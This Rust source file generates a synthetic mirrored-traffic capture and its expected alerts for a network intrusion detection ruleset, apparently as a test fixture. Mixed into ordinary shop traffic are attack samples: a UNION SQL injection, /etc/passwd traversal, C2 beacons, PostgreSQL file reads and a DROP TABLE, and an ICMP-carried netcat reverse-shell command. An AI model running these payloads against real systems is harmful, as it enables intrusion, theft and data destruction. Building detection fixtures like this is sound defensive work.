//! The bundled sample capture (`examples/sample-mirror.pcap`).

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use crate::app::{dns, http, pgsql};
use crate::rng::Rng;
use crate::session::{self, Exchange, TlsRound};
use crate::{geneve_wrap, truncate, vxlan_wrap, Frame, Mirror, NS_PER_MS, SAMPLE_START_NS};

const WEB: [u8; 4] = [10, 0, 1, 5];
const DB: [u8; 4] = [10, 0, 2, 7];
const APP: [u8; 4] = [10, 0, 3, 15];
const RESOLVER: [u8; 4] = [10, 0, 0, 2];
const TARGET: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 100);
const HOST: &str = "shop.example.com";

/// The C2 domain the sample's compromised database host talks to.
pub const C2_DOMAIN: &str = "update.darkpulse-c2.example";
/// The C2 server's address.
pub const C2_IP: [u8; 4] = [198, 51, 100, 66];

/// GENEVE hop in the sample: (GWLB address, appliance address, VNI).
pub const SAMPLE_GWLB: (Ipv4Addr, Ipv4Addr, u32) =
    (Ipv4Addr::new(10, 0, 9, 10), Ipv4Addr::new(10, 0, 9, 20), 0);

/// The sample's two mirror sessions: VNI 1001 (web server ENI 10.0.1.5) and
/// VNI 1002 (database server ENI 10.0.2.7), both to target 10.0.0.100.
pub fn sample_mirrors() -> [Mirror; 2] {
    [
        Mirror {
            vni: 1001,
            source_ip: Ipv4Addr::from(WEB),
            target_ip: TARGET,
        },
        Mirror {
            vni: 1002,
            source_ip: Ipv4Addr::from(DB),
            target_ip: TARGET,
        },
    ]
}

/// One rule of `etc/tapwatch.rules` and how often it alerts on the sample.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SampleAttack {
    /// Rule id.
    pub sid: u32,
    /// Alerts expected on the sample (one per packet carrying the match).
    pub count: u32,
    /// What in the sample triggers it.
    pub what: &'static str,
}

/// Expected alerts of the bundled ruleset on the sample. Rules of
/// `etc/tapwatch.rules` not listed here must not fire on it.
pub const SAMPLE_ATTACKS: &[SampleAttack] = &[
    SampleAttack {
        sid: sid::WEB_SQLI_UNION,
        count: 1,
        what: "GET /products.php?id=-1%20UNION%20SELECT%20... from 203.0.113.66",
    },
    SampleAttack {
        sid: sid::WEB_TRAVERSAL_PASSWD,
        count: 1,
        what: "GET /download?file=../../../../etc/passwd from 192.0.2.200",
    },
    SampleAttack {
        sid: sid::SCAN_SQLMAP_UA,
        count: 2,
        what: "two requests with User-Agent sqlmap/1.8.2 from 203.0.113.66",
    },
    SampleAttack {
        sid: sid::C2_TLS_SNI,
        count: 1,
        what: "TLS ClientHello SNI update.darkpulse-c2.example from 10.0.2.7",
    },
    SampleAttack {
        sid: sid::C2_DNS_QUERY,
        count: 1,
        what: "DNS A query update.darkpulse-c2.example from 10.0.2.7",
    },
    SampleAttack {
        sid: sid::ICMP_SHELL,
        count: 1,
        what: "ICMP echo request carrying /bin/sh from 10.0.2.7 to 198.51.100.66",
    },
    SampleAttack {
        sid: sid::PGSQL_DROP_TABLE,
        count: 1,
        what: "PostgreSQL query DROP TABLE audit_log from 10.0.3.15",
    },
    SampleAttack {
        sid: sid::PGSQL_READ_FILE,
        count: 1,
        what: "PostgreSQL query SELECT pg_read_file('/etc/passwd', ...) from 10.0.3.15",
    },
    SampleAttack {
        sid: sid::SCAN_ICMP_EMPTY_ECHO,
        count: 1,
        what: "ICMP echo request without payload from 192.0.2.200 (Nmap -sn)",
    },
];

/// Sids of `etc/tapwatch.rules`.
pub mod sid {
    /// UNION SELECT in an HTTP request line.
    pub const WEB_SQLI_UNION: u32 = 9_000_001;
    /// `../` ... `etc/passwd` in an HTTP request line.
    pub const WEB_TRAVERSAL_PASSWD: u32 = 9_000_002;
    /// sqlmap User-Agent.
    pub const SCAN_SQLMAP_UA: u32 = 9_000_003;
    /// Nikto User-Agent (not in the sample).
    pub const SCAN_NIKTO_UA: u32 = 9_000_004;
    /// TLS ClientHello SNI under darkpulse-c2.example.
    pub const C2_TLS_SNI: u32 = 9_000_005;
    /// DNS query under darkpulse-c2.example.
    pub const C2_DNS_QUERY: u32 = 9_000_006;
    /// ICMP echo request carrying /bin/sh.
    pub const ICMP_SHELL: u32 = 9_000_007;
    /// PostgreSQL DROP TABLE.
    pub const PGSQL_DROP_TABLE: u32 = 9_000_008;
    /// PostgreSQL pg_read_file(.
    pub const PGSQL_READ_FILE: u32 = 9_000_009;
    /// PostgreSQL AuthenticationCleartextPassword (not in the sample).
    pub const PGSQL_CLEARTEXT_AUTH: u32 = 9_000_010;
    /// ICMP echo request without payload from outside.
    pub const SCAN_ICMP_EMPTY_ECHO: u32 = 9_000_011;
    /// TCP SYN+FIN (not in the sample).
    pub const SCAN_SYN_FIN: u32 = 9_000_012;
    /// Same source and destination address (not in the sample).
    pub const LAND: u32 = 9_000_013;
}

fn sa(ip: [u8; 4], port: u16) -> SocketAddr {
    SocketAddr::from((ip, port))
}

fn ms(n: u64) -> u64 {
    SAMPLE_START_NS + n * NS_PER_MS
}

fn date(ts: u64) -> u64 {
    ts / crate::NS_PER_SEC
}

/// How one session reaches the capture.
#[derive(Clone, Copy)]
enum Via {
    Vxlan(usize),
    Truncated(usize, usize),
    GeneveVxlan(usize),
}

struct Builder {
    mirrors: [Mirror; 2],
    out: Vec<Frame>,
}

impl Builder {
    fn add(&mut self, inner: Vec<Frame>, via: Via) {
        for f in inner {
            let w = match via {
                Via::Vxlan(m) => vxlan_wrap(&f, &self.mirrors[m]),
                Via::Truncated(m, snap) => vxlan_wrap(&truncate(&f, snap), &self.mirrors[m]),
                Via::GeneveVxlan(m) => {
                    let (gwlb, appliance, vni) = SAMPLE_GWLB;
                    geneve_wrap(&vxlan_wrap(&f, &self.mirrors[m]), vni, gwlb, appliance)
                }
            };
            self.out.push(w);
        }
    }
}

fn get(uri: &str, ua: &str) -> Vec<u8> {
    http::Request::get(uri, HOST, ua).to_bytes()
}

fn ok(ct: &str, body: &[u8], at: u64) -> Vec<u8> {
    http::response(200, ct, body, date(at), &[])
}

/// The sample capture: two mirror sessions (VNI 1001, web server 10.0.1.5;
/// VNI 1002, database server 10.0.2.7; target 10.0.0.100), about six seconds
/// of traffic from 2026-01-15T10:00:00Z: HTTP browsing (IPv4 and IPv6,
/// keep-alive, a chunked JSON body), TLS to a few SNIs, PostgreSQL, DNS,
/// ping, load-balancer health checks, and the attacks in [`SAMPLE_ATTACKS`].
/// One HTTP download is truncated to 128 bytes per mirrored packet; one HTTP
/// session arrives GENEVE-wrapped around VXLAN (GWLB 10.0.9.10 → appliance
/// 10.0.9.20). Frames are in time order. Same bytes on every call.
pub fn sample() -> Vec<Frame> {
    let mut rng = Rng::new(0x7a9_3a7c_5a3b_1e00);
    let mut b = Builder {
        mirrors: sample_mirrors(),
        out: Vec::new(),
    };
    let ua = http::USER_AGENTS;
    let resolver = sa(RESOLVER, 53);

    // DNS + TLS from the web server to a payment API.
    b.add(
        session::dns_lookup(
            sa(WEB, 53_001),
            resolver,
            ms(0),
            600_000,
            0x3a11,
            "api.example.com",
            dns::TYPE_A,
            Some(&[dns::Rdata::A(Ipv4Addr::new(192, 0, 2, 80))]),
        ),
        Via::Vxlan(0),
    );
    b.add(
        session::dns_lookup(
            sa(WEB, 53_002),
            resolver,
            ms(1),
            700_000,
            0x3a12,
            "api.example.com",
            dns::TYPE_AAAA,
            Some(&[dns::Rdata::Aaaa(
                "2001:db8:80::80".parse().unwrap_or(std::net::Ipv6Addr::LOCALHOST),
            )]),
        ),
        Via::Vxlan(0),
    );
    let rounds = [
        TlsRound {
            request_len: 620,
            response_len: 1_800,
            think_ns: 40 * NS_PER_MS,
        },
        TlsRound {
            request_len: 540,
            response_len: 3_200,
            think_ns: 0,
        },
    ];
    let c = session::tls_session(
        &mut rng,
        sa(WEB, 41_000),
        sa([192, 0, 2, 80], 443),
        ms(3),
        2 * NS_PER_MS,
        "api.example.com",
        Some("http/1.1"),
        &rounds,
    );
    b.add(c.into_frames(), Via::Vxlan(0));

    // Load balancer health checks.
    for (i, at) in [40u64, 5_040].into_iter().enumerate() {
        let mut req = http::Request::get("/healthz", HOST, "ELB-HealthChecker/2.0");
        req.headers = vec![("Accept", "*/*")];
        let ex = Exchange::new(
            req.to_bytes(),
            http::response(200, "text/plain", b"ok\n", date(ms(at)), &[]),
        );
        let c = session::tcp_conversation(
            sa([10, 0, 0, 37], 40_112 + i as u16),
            sa(WEB, 80),
            ms(at),
            300_000,
            &[ex],
        );
        b.add(c.into_frames(), Via::Vxlan(0));
    }

    // Firefox browsing: page, stylesheet, script, chunked JSON API call.
    let t = ms(120);
    let mut api = http::Request::get("/api/products?page=2", HOST, ua[0]);
    api.headers = vec![
        ("Accept", "application/json"),
        ("Referer", "http://shop.example.com/"),
    ];
    let mut exs = vec![
        Exchange::new(
            get("/", ua[0]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "Shop", 6_000),
                t,
            ),
        ),
        Exchange::new(
            get("/static/css/site.css", ua[0]),
            ok("text/css", &http::css(&mut rng, 3_000), t),
        ),
        Exchange::new(
            get("/static/js/app.js", ua[0]),
            ok("application/javascript", &http::javascript(&mut rng, 7_000), t),
        ),
        Exchange::new(
            api.to_bytes(),
            http::chunked_response(
                200,
                "application/json",
                &http::json_products(&mut rng, 21, 20),
                512,
                date(t),
            ),
        ),
    ];
    exs[1].think_ns = 2 * NS_PER_MS;
    exs[2].think_ns = 300 * NS_PER_MS;
    let c = session::tcp_conversation(
        sa([198, 51, 100, 10], 51_514),
        sa(WEB, 80),
        t,
        28 * NS_PER_MS,
        &exs,
    );
    b.add(c.into_frames(), Via::Vxlan(0));

    // Ping from the web server to the app server.
    b.add(
        session::ping(
            IpAddr::from(WEB),
            IpAddr::from(APP),
            ms(300),
            400_000,
            0x0b1e,
            3,
            true,
            &session::linux_ping_payload,
        ),
        Via::Vxlan(0),
    );

    // Chrome: product page, SVG, form POST.
    let t = ms(420);
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"40\"><text x=\"4\" y=\"28\">{}</text></svg>\n",
        "shop".repeat(8)
    );
    let cart = http::Request::post_form("/cart", HOST, ua[1], b"product=42&qty=2").to_bytes();
    let exs = vec![
        Exchange::new(
            get("/products/42", ua[1]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "Lantern 42", 4_500),
                t,
            ),
        ),
        Exchange::new(
            get("/images/logo.svg", ua[1]),
            ok("image/svg+xml", svg.as_bytes(), t),
        ),
        Exchange::new(
            cart,
            ok(
                "application/json",
                b"{\"cart\":{\"items\":[{\"id\":42,\"qty\":2}],\"total\":\"59.80\"}}",
                t,
            ),
        ),
    ];
    let c = session::tcp_conversation(
        sa([203, 0, 113, 25], 60_211),
        sa(WEB, 80),
        t,
        45 * NS_PER_MS,
        &exs,
    );
    b.add(c.into_frames(), Via::Vxlan(0));

    // The app server's normal PostgreSQL session.
    let product_cols = [
        pgsql::Column {
            name: "id",
            type_oid: pgsql::OID_INT4,
        },
        pgsql::Column {
            name: "name",
            type_oid: pgsql::OID_VARCHAR,
        },
        pgsql::Column {
            name: "price",
            type_oid: pgsql::OID_NUMERIC,
        },
    ];
    let mut update = pgsql::command_complete("UPDATE 1");
    update.extend(pgsql::ready_for_query(b'I'));
    let queries = vec![
        (
            "SELECT id, name, price FROM products WHERE id = 42".to_string(),
            pgsql::select_result(
                &product_cols,
                &[vec!["42".into(), "Lantern".into(), "29.90".into()]],
            ),
        ),
        (
            "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'".to_string(),
            pgsql::select_result(
                &[pgsql::Column {
                    name: "count",
                    type_oid: pgsql::OID_INT8,
                }],
                &[vec!["1287".into()]],
            ),
        ),
        (
            "UPDATE carts SET updated_at = now() WHERE id = 9913".to_string(),
            update,
        ),
    ];
    let c = session::pgsql_session(
        sa(APP, 45_122),
        sa(DB, 5432),
        ms(600),
        300_000,
        "app",
        "shop",
        false,
        &queries,
    );
    b.add(c.into_frames(), Via::Vxlan(1));

    // The database host's nightly backup upload.
    b.add(
        session::dns_lookup(
            sa(DB, 53_877),
            resolver,
            ms(900),
            800_000,
            0x77a0,
            "backup.example.net",
            dns::TYPE_A,
            Some(&[
                dns::Rdata::Cname("s3-backup.example.net".into()),
                dns::Rdata::A(Ipv4Addr::new(192, 0, 2, 140)),
            ]),
        ),
        Via::Vxlan(1),
    );
    let rounds = [
        TlsRound {
            request_len: 12_000,
            response_len: 300,
            think_ns: 5 * NS_PER_MS,
        },
        TlsRound {
            request_len: 16_000,
            response_len: 300,
            think_ns: 0,
        },
    ];
    let c = session::tls_session(
        &mut rng,
        sa(DB, 52_010),
        sa([192, 0, 2, 140], 443),
        ms(905),
        1_500_000,
        "backup.example.net",
        None,
        &rounds,
    );
    b.add(c.into_frames(), Via::Vxlan(1));

    // Safari on an iPhone.
    let t = ms(1_100);
    let exs = vec![
        Exchange::new(
            get("/", ua[3]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "Shop", 5_200),
                t,
            ),
        ),
        Exchange::new(
            get("/static/css/site.css", ua[3]),
            ok("text/css", &http::css(&mut rng, 3_000), t),
        ),
    ];
    let c = session::tcp_conversation(sa([192, 0, 2, 44], 49_320), sa(WEB, 80), t, 60 * NS_PER_MS, &exs);
    b.add(c.into_frames(), Via::Vxlan(0));

    // An IPv6 client.
    let t = ms(1_300);
    let mut api = http::Request::get("/api/products?page=1", HOST, ua[4]);
    api.headers = vec![("Accept", "application/json")];
    let exs = vec![
        Exchange::new(
            get("/products", ua[4]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "Products", 3_800),
                t,
            ),
        ),
        Exchange::new(
            api.to_bytes(),
            http::chunked_response(
                200,
                "application/json",
                &http::json_products(&mut rng, 1, 12),
                400,
                date(t),
            ),
        ),
    ];
    let v6c: SocketAddr = "[2001:db8:beef::20]:50442"
        .parse()
        .unwrap_or_else(|_| sa([0; 4], 0));
    let v6s: SocketAddr = "[2001:db8:10:1::5]:80".parse().unwrap_or_else(|_| sa([0; 4], 0));
    let c = session::tcp_conversation(v6c, v6s, t, 35 * NS_PER_MS, &exs);
    b.add(c.into_frames(), Via::Vxlan(0));

    // A PDF download mirrored with packet-length 128.
    let t = ms(1_500);
    let pdf = http::binary_body(&mut rng, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", 48 * 1024);
    let exs = vec![Exchange::new(
        get("/downloads/catalog-2026.pdf", ua[0]),
        ok("application/pdf", &pdf, t),
    )];
    let c = session::tcp_conversation(
        sa([198, 51, 100, 10], 51_530),
        sa(WEB, 80),
        t,
        28 * NS_PER_MS,
        &exs,
    );
    b.add(c.into_frames(), Via::Truncated(0, 128));

    // A session that reaches the sensor through a Gateway Load Balancer.
    let t = ms(1_800);
    let exs = vec![
        Exchange::new(
            get("/about", ua[3]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "About us", 2_500),
                t,
            ),
        ),
        Exchange::new(
            get("/contact", ua[3]),
            ok(
                "text/html; charset=utf-8",
                &http::html_page(&mut rng, "Contact", 2_000),
                t,
            ),
        ),
    ];
    let c = session::tcp_conversation(sa([192, 0, 2, 44], 49_333), sa(WEB, 80), t, 60 * NS_PER_MS, &exs);
    b.add(c.into_frames(), Via::GeneveVxlan(0));

    // Attack: sqlmap probing a parameter (two requests).
    let t = ms(2_000);
    let sqlmap_ua = "sqlmap/1.8.2#stable (https://sqlmap.org)";
    let probe = |uri: &str| {
        let mut r = http::Request::get(uri, HOST, sqlmap_ua);
        r.headers = vec![
            ("Accept", "*/*"),
            ("Accept-Encoding", "gzip,deflate"),
            ("Cache-Control", "no-cache"),
        ];
        r.close = false;
        r.to_bytes()
    };
    let page = http::html_page(&mut rng, "Lantern 1", 1_200);
    let exs = vec![
        Exchange::new(
            probe("/products.php?id=1"),
            ok("text/html; charset=utf-8", &page, t),
        ),
        Exchange::new(
            probe("/products.php?id=1%20AND%203719%3D3719"),
            ok("text/html; charset=utf-8", &page, t),
        ),
    ];
    let c = session::tcp_conversation(
        sa([203, 0, 113, 66], 44_120),
        sa(WEB, 80),
        t,
        80 * NS_PER_MS,
        &exs,
    );
    b.add(c.into_frames(), Via::Vxlan(0));

    // Attack: hand-written UNION-based SQL injection.
    let t = ms(2_600);
    let exs = vec![Exchange::new(
        get(
            "/products.php?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--",
            ua[0],
        ),
        http::response(
            500,
            "text/html",
            b"<html><body><h1>500 Internal Server Error</h1></body></html>\n",
            date(t),
            &[],
        ),
    )];
    let c = session::tcp_conversation(
        sa([203, 0, 113, 66], 44_188),
        sa(WEB, 80),
        t,
        80 * NS_PER_MS,
        &exs,
    );
    b.add(c.into_frames(), Via::Vxlan(0));

    // Attack: host discovery ping, then path traversal.
    b.add(
        session::ping(
            IpAddr::from([192, 0, 2, 200]),
            IpAddr::from(WEB),
            ms(3_000),
            30 * NS_PER_MS,
            0xa1f3,
            1,
            true,
            &|_| Vec::new(),
        ),
        Via::Vxlan(0),
    );
    let t = ms(3_050);
    let mut trav = http::Request::get(
        "/download?file=../../../../etc/passwd",
        HOST,
        "python-requests/2.31.0",
    );
    trav.headers = vec![("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*")];
    let exs = vec![Exchange::new(
        trav.to_bytes(),
        http::response(
            404,
            "text/html",
            b"<html><body><h1>404 Not Found</h1></body></html>\n",
            date(t),
            &[],
        ),
    )];
    let c = session::tcp_conversation(sa([192, 0, 2, 200], 38_211), sa(WEB, 80), t, 30 * NS_PER_MS, &exs);
    b.add(c.into_frames(), Via::Vxlan(0));

    // More normal DNS from the web server (one NXDOMAIN).
    b.add(
        session::dns_lookup(
            sa(WEB, 53_014),
            resolver,
            ms(3_500),
            900_000,
            0x3a20,
            "cdn.example.net",
            dns::TYPE_A,
            Some(&[
                dns::Rdata::Cname("edge-7.cdn.example.net".into()),
                dns::Rdata::A(Ipv4Addr::new(198, 51, 100, 7)),
            ]),
        ),
        Via::Vxlan(0),
    );
    b.add(
        session::dns_lookup(
            sa(WEB, 53_015),
            resolver,
            ms(3_520),
            1_100_000,
            0x3a21,
            "static.shop.example.com",
            dns::TYPE_A,
            None,
        ),
        Via::Vxlan(0),
    );

    // Attack: the database host resolves and beacons to its C2.
    b.add(
        session::dns_lookup(
            sa(DB, 40_031),
            resolver,
            ms(4_000),
            1_200_000,
            0x9c2e,
            C2_DOMAIN,
            dns::TYPE_A,
            Some(&[dns::Rdata::A(Ipv4Addr::from(C2_IP))]),
        ),
        Via::Vxlan(1),
    );
    let beacon = TlsRound {
        request_len: 180,
        response_len: 96,
        think_ns: 400 * NS_PER_MS,
    };
    let c = session::tls_session(
        &mut rng,
        sa(DB, 49_822),
        sa(C2_IP, 443),
        ms(4_012),
        95 * NS_PER_MS,
        C2_DOMAIN,
        None,
        &[beacon, beacon, beacon],
    );
    b.add(c.into_frames(), Via::Vxlan(1));

    // Attack: ICMP tunnel carrying a shell.
    b.add(
        session::ping(
            IpAddr::from(DB),
            IpAddr::from(C2_IP),
            ms(4_500),
            95 * NS_PER_MS,
            0x5c2e,
            1,
            true,
            &|_| b"\x00\x01/bin/sh -i 2>&1 | nc 198.51.100.66 4444\n".to_vec(),
        ),
        Via::Vxlan(1),
    );

    // Attack: the app server's credentials used to read files and drop a table.
    let passwd = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\npostgres:x:999:999::/var/lib/postgresql:/bin/bash\n";
    let mut dropped = pgsql::command_complete("DROP TABLE");
    dropped.extend(pgsql::ready_for_query(b'I'));
    let queries = vec![
        (
            "SELECT pg_read_file('/etc/passwd', 0, 200)".to_string(),
            pgsql::select_result(
                &[pgsql::Column {
                    name: "pg_read_file",
                    type_oid: pgsql::OID_TEXT,
                }],
                &[vec![passwd.into()]],
            ),
        ),
        ("DROP TABLE audit_log".to_string(), dropped),
    ];
    let c = session::pgsql_session(
        sa(APP, 45_190),
        sa(DB, 5432),
        ms(5_000),
        300_000,
        "app",
        "shop",
        false,
        &queries,
    );
    b.add(c.into_frames(), Via::Vxlan(1));

    let mut out = b.out;
    out.sort_by_key(|f| f.ts_ns);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::verify::{check_frame, Encap, Transport};

    #[test]
    fn sample_is_small_deterministic_and_time_ordered() {
        let a = sample();
        let b = sample();
        assert_eq!(a, b, "byte-identical across calls");
        let bytes: u64 = 24 + a.iter().map(Frame::pcap_record_len).sum::<u64>();
        assert!(bytes < 1024 * 1024, "sample is {bytes} bytes");
        assert!(a.len() > 200);
        assert!(a.windows(2).all(|w| w[0].ts_ns <= w[1].ts_ns));
        assert_eq!(a[0].ts_ns, SAMPLE_START_NS);
    }

    #[test]
    fn every_sample_frame_decodes_with_valid_checksums() {
        let mut vnis = std::collections::BTreeMap::new();
        let (mut truncated, mut geneve, mut v6) = (0, 0, 0);
        for f in sample() {
            let s = check_frame(&f.data).unwrap_or_else(|e| panic!("frame at {}: {e}", f.ts_ns));
            assert_eq!(f.orig_len as usize, f.data.len(), "outer frames are complete");
            let vxlan = s.encaps.iter().find_map(|e| match e {
                Encap::Vxlan { vni } => Some(*vni),
                _ => None,
            });
            *vnis.entry(vxlan.unwrap_or(0)).or_insert(0) += 1;
            if s.inner.truncated {
                truncated += 1;
                assert!(f.data.len() <= 128 + 50);
            }
            if matches!(s.encaps.first(), Some(Encap::Geneve { vni: 0 })) {
                geneve += 1;
                assert_eq!(s.outer_src, IpAddr::from([10, 0, 9, 10]));
            }
            if s.inner.src.is_ipv6() {
                v6 += 1;
            }
            if let Transport::Udp { dst_port, .. } = s.inner.transport {
                assert!(dst_port == 53 || s.inner.src == IpAddr::from(RESOLVER));
            }
        }
        assert_eq!(vnis.keys().copied().collect::<Vec<_>>(), vec![1001, 1002]);
        assert!(truncated > 10, "truncated frames: {truncated}");
        assert!(geneve > 10, "geneve frames: {geneve}");
        assert!(v6 > 10, "ipv6 frames: {v6}");
    }
}
